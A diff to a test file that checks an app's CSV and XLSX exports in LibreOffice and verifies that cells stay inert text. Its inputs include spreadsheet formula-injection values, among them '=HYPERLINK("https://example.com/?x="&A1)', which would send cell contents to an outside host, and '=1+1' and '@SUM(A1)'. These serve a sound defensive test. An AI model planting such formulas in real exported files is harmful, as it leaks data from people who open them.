@@ -3,6 +3,9 @@ import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { toListCsv } from '../../../src/export/lists/list-csv';
+import { toPeopleCsv } from '../../../src/export/lists/people-csv';
+import { HARD_TEXTS } from '../../replica/world/hard-texts';
 import type { WorldComment, WorldNote } from '../../replica/world/types';
 import { readInCalc } from '../../support/desk/read-in-calc';
 import type { CalcCell } from '../../support/desk/read-in-calc';
@@ -58,6 +61,8 @@ describe.skipIf(!programs)('exported tables in LibreOffice', () => {
   let stage: Stage;
   let note: WorldNote;
   const tables = new Map<Kind, Rows>();
+  let notes: Rows;
+  let completeness: Rows;
 
   beforeAll(async () => {
     if (!programs) throw new Error('No office program to be had.');
@@ -77,8 +82,8 @@ describe.skipIf(!programs)('exported tables in LibreOffice', () => {
       what: 'every comment to be stored',
     });
     const { downloadDir } = chromium;
-    const read = async (fileName: string): Promise<Rows> => {
-      const [header = [], ...cells] = await readInCalc(programs, join(downloadDir, fileName));
+    const read = async (fileName: string, sheet?: string): Promise<Rows> => {
+      const [header = [], ...cells] = await readInCalc(programs, join(downloadDir, fileName), sheet);
       return cells.map((row) =>
         Object.fromEntries(row.map((cell, index) => [header[index]?.shown ?? '', cell])),
       );
@@ -86,7 +91,10 @@ describe.skipIf(!programs)('exported tables in LibreOffice', () => {
     tables.set('CSV', await read((await exportInPanel(panel, downloadDir)).fileName));
     await openExportChoices(panel);
     await panel.getByLabel('Kind of file').selectOption({ label: 'Excel (XLSX)' });
-    tables.set('XLSX', await read((await exportChosen(panel, downloadDir, '.xlsx')).fileName));
+    const workbook = await exportChosen(panel, downloadDir, '.xlsx');
+    tables.set('XLSX', await read(workbook.fileName));
+    notes = await read(workbook.fileName, 'Notes');
+    completeness = await read(workbook.fileName, 'Completeness');
   });
 
   afterAll(() => stage.close());
@@ -146,6 +154,33 @@ describe.skipIf(!programs)('exported tables in LibreOffice', () => {
     });
   });
 
+  test('the sheet of the note shows its title, text and author as texts, and its counts as numbers', () => {
+    expect(notes).toHaveLength(1);
+    const [row] = notes;
+    const texts = {
+      'Note ID': note.noteId,
+      'Note title': note.title,
+      'Note text': note.desc,
+      'Note author': note.author.nickname,
+    };
+    for (const [column, text] of Object.entries(texts))
+      expect(row?.[column], column).toEqual({ shown: asShown(text), kind: 'text' });
+    expect(row?.['Note likes']?.kind).toBe('value');
+  });
+
+  test('the sheet of the report says how many there are, as numbers, and runs nothing', () => {
+    const valueOf = (key: string) => completeness.find((row) => row['What']?.shown === key)?.['Value'];
+    const all = flattenComments(note).length;
+    expect(valueOf('comments.got')).toEqual({ shown: String(all), kind: 'value' });
+    expect(valueOf('file.format')).toEqual({ shown: 'xlsx', kind: 'text' });
+    expect(completeness.length).toBeGreaterThan(20);
+    // What is computed or not understood would stand there as an error or as a number under a word's key.
+    for (const row of completeness) {
+      expect(row['What']?.kind).toBe('text');
+      expect(row['Value']?.shown).not.toMatch(/^(?:#|Err:)/);
+    }
+  });
+
   test('would not, if the file were written without care', async () => {
     if (!programs) throw new Error('No office program to be had.');
     const folder = mkdtempSync(join(tmpdir(), 'careless-'));
@@ -160,5 +195,66 @@ describe.skipIf(!programs)('exported tables in LibreOffice', () => {
     } finally {
       removeFolder(folder);
     }
+  });
+});
+
+describe.skipIf(!programs)('lists of notes and people in LibreOffice', () => {
+  const cases = HARD_TEXTS.map((text) => asShown(text));
+
+  async function openList(csv: string) {
+    if (!programs) throw new Error('No office program to be had.');
+    const folder = mkdtempSync(join(tmpdir(), 'list-'));
+    try {
+      const path = join(folder, 'list.csv');
+      writeFileSync(path, csv);
+      return await readInCalc(programs, path);
+    } finally {
+      removeFolder(folder);
+    }
+  }
+
+  /** A text as the program shows it; the guard undone, it is what the list was given. */
+  function expectText(cell: CalcCell | undefined, text: string): void {
+    expect(cell?.kind, text).toBe(text === '' ? 'empty' : 'text');
+    expect(undoCellGuard(cell?.shown ?? ''), text).toBe(text);
+    expect(isDangerousCell(cell?.shown ?? ''), text).toBe(false);
+  }
+
+  test('a saved list shows every text as it was, in headers too, and numbers as numbers', async () => {
+    const rows = cases.map((text, index) => [text, '0012345678901234567890', '5e12', index] as const);
+    const [header, ...shown] = await openList(toListCsv(['=1+1', 'id', '@SUM(A1)', 'likes'], rows));
+    ['=1+1', 'id', '@SUM(A1)', 'likes'].forEach((name, index) => expectText(header?.[index], name));
+    expect(shown).toHaveLength(rows.length);
+    rows.forEach((row, line) => {
+      row.slice(0, 3).forEach((text, index) => expectText(shown[line]?.[index], String(text)));
+      expect(shown[line]?.[3]).toEqual({ shown: String(row[3]), kind: 'value' });
+    });
+  });
+
+  test('a list of people keeps the cells that it came with, and the names that were found', async () => {
+    const people = cases.map((text, index) => ({
+      cells: [text, `=HYPERLINK("https://example.com/?x="&A1)`],
+      result: 'done' as const,
+      author: {
+        id: { kind: 'site' as const, value: `5f${String(index).padStart(22, '0')}` },
+        nickname: text,
+        desc: `+${text}`,
+        counts: { fans: { raw: '12', value: 12, approximate: false } },
+        observed: {},
+        firstSeenAt: 1,
+        lastSeenAt: 1,
+      },
+    }));
+    const csv = toPeopleCsv({ columns: ['who', '-campaign'], rows: people }, 'en');
+    const [header = [], ...shown] = await openList(csv);
+    const at = (name: string) => header.findIndex((cell) => cell.shown === name);
+    expectText(header[1], '-campaign');
+    expect(shown).toHaveLength(people.length);
+    people.forEach(({ cells, author }, line) => {
+      cells.forEach((text, index) => expectText(shown[line]?.[index], text));
+      expectText(shown[line]?.[at('Author id')], author.id.value);
+      expectText(shown[line]?.[at('Author')], author.nickname);
+      expect(shown[line]?.[at('Followers')]).toEqual({ shown: '12', kind: 'value' });
+    });
   });
 });
